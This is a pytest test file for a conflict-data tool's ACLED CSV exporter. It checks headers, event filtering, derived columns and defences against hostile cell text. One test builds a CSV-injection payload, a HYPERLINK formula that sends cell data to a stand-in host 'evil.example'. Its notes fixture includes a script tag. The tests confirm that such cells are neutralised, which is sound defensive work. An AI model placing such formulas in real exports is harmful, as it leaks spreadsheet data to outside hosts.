"""ACLED CSV: ACLED's header, occurred events only, and the derived columns."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from marsad.export import write_records
from marsad.export.acled import disorder_type, region_of
from marsad.model.event import CONTRACT_FIELDS

ACLED_HEADER = (
    "event_id_cnty,event_date,year,time_precision,disorder_type,event_type,sub_event_type,actor1,"
    "assoc_actor_1,inter1,actor2,assoc_actor_2,inter2,interaction,civilian_targeting,iso,region,country,"
    "admin1,admin2,admin3,location,latitude,longitude,geo_precision,source,source_scale,notes,fatalities,"
    "tags,timestamp"
)
NOTES = 'Shelling, "heavy",\nnear <script>x</script> دير الزور'


def record(event_id: str, modality: str, **extra: Any) -> dict[str, Any]:
    """A contract record with the fields ACLED CSV reads."""
    rec: dict[str, Any] = dict.fromkeys(CONTRACT_FIELDS)
    rec.update(
        event_id=event_id,
        event_date="2017-09-10",
        event_type="Battles",
        sub_event_type="Armed clash",
        assoc_actor_1="A; B",
        iso=760,
        country="Syria",
        latitude=35.3,
        longitude=40.1,
        notes=NOTES,
        fatalities=4,
        modality=modality,
        evidence=[],
    )
    rec.update(extra)
    return rec


def rows_of(records: list[dict[str, Any]]) -> tuple[str, list[dict[str, str]], int]:
    """Write records as ACLED CSV; return the header line, the parsed rows and the count written."""
    buf = io.StringIO()
    count = write_records(records, "acled-csv", buf)
    text = buf.getvalue()
    return text.split("\n", 1)[0], list(csv.DictReader(io.StringIO(text))), count


@pytest.mark.parametrize("modality", ["planned", "forecast", "hypothetical", "negated", "habitual"])
def test_only_occurred_records_are_written(modality: str) -> None:
    header, rows, count = rows_of([record("MRS1", "occurred"), record("MRS2", modality)])
    assert header == ACLED_HEADER
    assert count == 1 and [r["event_id_cnty"] for r in rows] == ["MRS1"]


def test_derived_columns_and_hostile_text() -> None:
    _, (row,), _ = rows_of([record("MRS1", "occurred")])
    assert row["year"] == "2017" and row["region"] == "Middle East"
    assert row["disorder_type"] == "Political violence"
    assert row["notes"] == NOTES and row["assoc_actor_1"] == "A; B" and row["fatalities"] == "4"
    assert row["source_scale"] == "" and row["tags"] == "" and int(row["timestamp"]) > 1_600_000_000


@pytest.mark.parametrize(
    ("event_type", "sub_event_type", "expected"),
    [
        ("Battles", "Armed clash", "Political violence"),
        ("Explosions/Remote violence", "Air/drone strike", "Political violence"),
        ("Violence against civilians", "Attack", "Political violence"),
        ("Protests", "Peaceful protest", "Demonstrations"),
        ("Riots", "Mob violence", "Demonstrations"),
        ("Protests", "Excessive force against protesters", "Political violence; Demonstrations"),
        ("Strategic developments", "Agreement", "Strategic developments"),
    ],
)
def test_disorder_type(event_type: str, sub_event_type: str, expected: str) -> None:
    assert disorder_type(event_type, sub_event_type) == expected


@pytest.mark.parametrize(
    ("country", "iso", "expected"),
    [
        ("Syria", 760, "Middle East"),
        ("Syrian Arab Republic", None, "Middle East"),
        ("Iraq", None, "Middle East"),
        ("", 792, "Middle East"),
        ("Egypt", 818, "Northern Africa"),
        ("Atlantis", None, ""),
    ],
)
def test_region(country: str, iso: int | None, expected: str) -> None:
    assert region_of(country, iso) == expected


def test_assoc_actor_lists_are_joined() -> None:
    _, (row,), _ = rows_of([record("MRS1", "occurred", assoc_actor_2=["X", "Y"], event_date=None)])
    assert row["assoc_actor_2"] == "X; Y" and row["year"] == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("fmt", ["acled-csv", "csv"])
def test_formula_cells_are_neutralised(start: str, fmt: str) -> None:
    """OWASP's CSV injection advice: a text cell a spreadsheet would run gets a leading quote."""
    formula = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    rec = record("MRS1", "occurred", actor1=formula, notes=formula, location="-Afrin", longitude=-3.2)
    buf = io.StringIO()
    write_records([rec], fmt, buf)
    row = next(csv.DictReader(io.StringIO(buf.getvalue())))
    assert row["actor1"] == "'" + formula and row["notes"] == "'" + formula
    assert row["location"] == "'-Afrin"
    assert row["longitude"] == "-3.2" and row["latitude"] == "35.3"  # numbers stay numbers


def test_ordinary_cells_are_unchanged() -> None:
    _, rows, _ = rows_of([record("MRS1", "occurred", actor1="Military Forces of Syria")])
    assert rows[0]["actor1"] == "Military Forces of Syria" and rows[0]["notes"] == NOTES
